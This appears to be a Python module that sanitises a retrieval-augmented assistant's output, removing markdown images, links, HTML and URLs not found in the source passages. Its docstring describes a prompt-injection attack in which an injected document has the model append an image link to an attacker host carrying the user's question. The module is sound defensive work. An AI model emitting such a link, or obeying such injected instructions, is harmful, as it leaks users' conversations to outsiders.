"""Remove markup from model output that could fetch or point at a place the corpus never named.

A rendered markdown image is a request the user's browser makes on its own: an injected document
can ask the model to end its answer with ``![x](http://attacker/?q=<question>)`` and exfiltrate the
conversation (OWASP LLM01 scenario 2, reliability note E3). Links are less direct but carry the
same payload. So every image, link, HTML tag and bare URL in a generated answer is removed unless
its URL appears verbatim in one of the passages the answer was generated from; link text is kept.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_URL = re.compile(r"(?:https?|ftp|data|javascript|file):[^\s<>()\[\]\"'`]+", re.IGNORECASE)
_WWW = re.compile(r"\bwww\.[^\s<>()\[\]\"'`]+", re.IGNORECASE)
_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_MD_IMAGE_REF = re.compile(r"!\[([^\]\n]*)\]\[[^\]\n]*\]")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_MD_REF_DEF = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript|file):[^>\s]*)>", re.IGNORECASE)
_HTML_BLOCK = re.compile(r"<\s*(script|style|iframe|object|embed|svg)\b.*?(?:<\s*/\s*\1\s*>|$)", re.I | re.S)
_HTML_TAG = re.compile(r"</?\s*[a-zA-Z][a-zA-Z0-9-]*\b[^>]*>")


def corpus_urls(texts: Iterable[str]) -> frozenset[str]:
    """Every URL written in the given passage texts (the only ones an answer may show)."""
    found: set[str] = set()
    for text in texts:
        found.update(u.rstrip(".,;:") for u in _URL.findall(text))
        found.update(u.rstrip(".,;:") for u in _WWW.findall(text))
    return frozenset(found)


def strip_untrusted_markup(text: str, allowed_urls: frozenset[str] = frozenset()) -> str:
    """``text`` without images, links, HTML or URLs that the passages did not contain."""

    def allowed(url: str) -> bool:
        return url.rstrip(".,;:") in allowed_urls

    text = _HTML_BLOCK.sub("", text)
    text = _MD_IMAGE.sub(lambda m: m.group(0) if allowed(m.group(2)) else "", text)
    text = _MD_IMAGE_REF.sub("", text)
    text = _MD_LINK.sub(lambda m: m.group(0) if allowed(m.group(2)) else _link_text(m.group(1)), text)
    text = _MD_REF_DEF.sub(lambda m: m.group(0) if allowed(m.group(1)) else "", text)
    text = _AUTOLINK.sub(lambda m: m.group(0) if allowed(m.group(1)) else "", text)
    text = _HTML_TAG.sub("", text)
    text = _URL.sub(lambda m: m.group(0) if allowed(m.group(0)) else "", text)
    text = _WWW.sub(lambda m: m.group(0) if allowed(m.group(0)) else "", text)
    return text


def _link_text(label: str) -> str:
    """A link's visible text; a citation-looking label keeps its brackets (``[1](http://x)`` → ``[1]``)."""
    return f"[{label}]" if label.strip().isdigit() else label
